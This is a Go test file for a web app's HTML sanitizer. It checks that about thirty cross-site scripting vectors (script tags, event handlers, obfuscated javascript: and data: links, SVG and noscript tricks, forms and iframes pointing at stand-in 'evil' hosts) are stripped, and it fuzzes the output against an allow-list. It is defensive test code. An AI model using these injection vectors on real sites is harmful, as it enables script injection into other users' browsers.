package sanitize_test

import (
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/copydesk/copydesk/server/markdown"
	"github.com/copydesk/copydesk/server/sanitize"
)

// attacks are vectors of the red team's finding (script, event handlers,
// javascript: links reaching WordPress) and of the usual XSS cheat sheets;
// each must come out without anything that runs.
var attacks = []struct{ name, in, want string }{
	{"Script", `<p>a</p><script>alert(1)</script><p>b</p>`, `<p>a</p><p>b</p>`},
	{"ScriptInText", `x<script src="//evil/x.js"></script>y`, `xy`},
	{"OnError", `<img src="x.png" onerror="alert(1)">`, `<img src="x.png">`},
	{"OnClick", `<p onclick="alert(1)" title="t">hi</p>`, `<p title="t">hi</p>`},
	{"JavascriptLink", `<a href="javascript:alert(1)">x</a>`, `<a>x</a>`},
	{"JavascriptUpper", `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a>x</a>`},
	{"JavascriptTab", `<a href="java&#x09;script:alert(1)">x</a>`, `<a>x</a>`},
	{"JavascriptNewline", `<a href="jav&#x0A;ascript:alert(1)">x</a>`, `<a>x</a>`},
	{"JavascriptLeadingSpace", `<a href=" &#x01;javascript:alert(1)">x</a>`, `<a>x</a>`},
	{"JavascriptEntities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`, `<a>x</a>`},
	{"VBScript", `<a href="vbscript:msgbox(1)">x</a>`, `<a>x</a>`},
	{"DataLink", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a>x</a>`},
	{"DataImage", `<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">`, `<img>`},
	{"SVG", `<svg onload="alert(1)"><circle r="1"></circle></svg>ok`, `ok`},
	{"MathML", `<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>ok`, `ok`},
	{"Iframe", `<iframe src="https://evil.example/"></iframe>after`, `after`},
	{"ObjectEmbed", `<object data="x.swf"></object><embed src="x.swf">t`, `t`},
	{"StyleElement", `<style>body{display:none}</style>t`, `t`},
	{"StyleAttribute", `<div style="background:url(javascript:alert(1))">t</div>`, `<div>t</div>`},
	{"Form", `<form action="https://evil/"><input type="password" name="p"><button>go</button></form>t`, `t`},
	{"TextInput", `<input type="text" onfocus="alert(1)" autofocus>t`, `t`},
	{"Meta", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">t`, `t`},
	{"Base", `<base href="https://evil/">t`, `t`},
	{"Noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>t`, `<img src="x">&#34;&gt;t`},
	{"Comment", `a<!-- <script>alert(1)</script> -->b`, `ab`},
	{"Target", `<a href="https://example.com/" target="_blank" rel="opener">x</a>`, `<a href="https://example.com/">x</a>`},
	{"UnknownElement", `<custom-el onclick="alert(1)">text</custom-el>`, `text`},
	{"SplitScript", `<scr<script>ipt>alert(1)</script>`, `ipt&gt;alert(1)`},
	{"QuoteInAttribute", `<img src="a.png" alt='a"onerror="alert(1)'>`, `<img src="a.png" alt="a&#34;onerror=&#34;alert(1)">`},
	{"ColonScheme", `<a href="evil:payload">x</a>`, `<a>x</a>`},
	{"CellStyleOther", `<table><tbody><tr><td style="color:red">x</td></tr></tbody></table>`, `<table><tbody><tr><td>x</td></tr></tbody></table>`},
}

func TestAttacks(t *testing.T) {
	for _, c := range attacks {
		t.Run(c.name, func(t *testing.T) {
			if got := sanitize.HTML(c.in); got != c.want {
				t.Fatalf("HTML(%s)\n got %s\nwant %s", c.in, got, c.want)
			}
		})
	}
}

// What a post's Markdown renders to passes unchanged in meaning: the
// elements and attributes of headings, lists, task lists, tables with
// alignment, code with its language, links and images.
func TestMarkdownKept(t *testing.T) {
	md := "# Title\n\nSome *em* and **strong**, `code`, ~~gone~~ and a [link](https://example.com/a?b=1&c=2 \"T\").\n\n" +
		"![alt text](https://example.com/i.png)\n\n> quoted\n\n1. one\n2. two\n\n- [x] done\n- [ ] todo\n\n" +
		"| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```go\nfunc main() {}\n```\n\nA [relative](/about) and [anchor](#title) and <mailto:me@example.com>.\n"
	rendered, err := markdown.Render(md)
	if err != nil {
		t.Fatal(err)
	}
	got := sanitize.HTML(rendered)
	for _, want := range []string{"<h1>Title</h1>", "<em>em</em>", "<strong>strong</strong>", "<code>code</code>", "<del>gone</del>",
		`<a href="https://example.com/a?b=1&amp;c=2" title="T">link</a>`, `<img src="https://example.com/i.png" alt="alt text"`,
		"<blockquote>", "<ol>", "<li>one</li>", `<input checked="" disabled="" type="checkbox"> done`, `<input disabled="" type="checkbox"> todo`,
		`<th style="text-align:left">a</th>`, `<td style="text-align:right">2</td>`, `<pre><code class="language-go">func main() {}`,
		`<a href="/about">relative</a>`, `<a href="#title">anchor</a>`, `<a href="mailto:me@example.com">mailto:me@example.com</a>`} {
		if !strings.Contains(got, want) {
			t.Errorf("lost %s in\n%s", want, got)
		}
	}
	if normalize(t, got) != normalize(t, rendered) {
		t.Errorf("rendered Markdown changed:\n%s\n---\n%s", rendered, got)
	}
}

// normalize parses and renders s, so that two spellings of the same HTML
// (<br> and <br />, attribute quoting) compare equal.
func normalize(t testing.TB, s string) string {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(s), &html.Node{Type: html.ElementNode, DataAtom: atom.Body, Data: "body"})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, n := range nodes {
		if err := html.Render(&b, n); err != nil {
			t.Fatal(err)
		}
	}
	return b.String()
}

func TestIdempotent(t *testing.T) {
	for _, c := range attacks {
		once := sanitize.HTML(c.in)
		if twice := sanitize.HTML(once); twice != once {
			t.Errorf("%s: %s then %s", c.name, once, twice)
		}
	}
}

// FuzzHTML checks the invariants on any input: what comes out parses to
// elements of the allow-list only, no event handler, no style but a cell's
// alignment, and no link or image address with an unsafe scheme.
func FuzzHTML(f *testing.F) {
	for _, c := range attacks {
		f.Add(c.in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := sanitize.HTML(in)
		nodes, err := html.ParseFragment(strings.NewReader(out), &html.Node{Type: html.ElementNode, DataAtom: atom.Body, Data: "body"})
		if err != nil {
			t.Fatal(err)
		}
		var walk func(n *html.Node)
		walk = func(n *html.Node) {
			if n.Type == html.ElementNode {
				switch n.Data {
				case "script", "style", "iframe", "object", "embed", "svg", "math", "form", "meta", "base", "link", "noscript", "template":
					t.Fatalf("%q kept <%s> from %q", out, n.Data, in)
				}
				for _, a := range n.Attr {
					key := strings.ToLower(a.Key)
					if strings.HasPrefix(key, "on") || key == "srcdoc" || key == "formaction" {
						t.Fatalf("%q kept %s= from %q", out, a.Key, in)
					}
					if key == "style" && !strings.HasPrefix(a.Val, "text-align:") {
						t.Fatalf("%q kept style %q", out, a.Val)
					}
					if key == "href" || key == "src" || key == "cite" {
						v := strings.ToLower(strings.Map(func(r rune) rune {
							if r <= ' ' {
								return -1
							}
							return r
						}, a.Val))
						if u, err := url.Parse(v); err == nil && u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" &&
							u.Scheme != "mailto" && u.Scheme != "tel" {
							t.Fatalf("%q kept %s=%q from %q", out, a.Key, a.Val, in)
						}
						if strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "data:") || strings.HasPrefix(v, "vbscript:") {
							t.Fatalf("%q kept %s=%q from %q", out, a.Key, a.Val, in)
						}
					}
				}
			}
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				walk(c)
			}
		}
		for _, n := range nodes {
			walk(n)
		}
	})
}
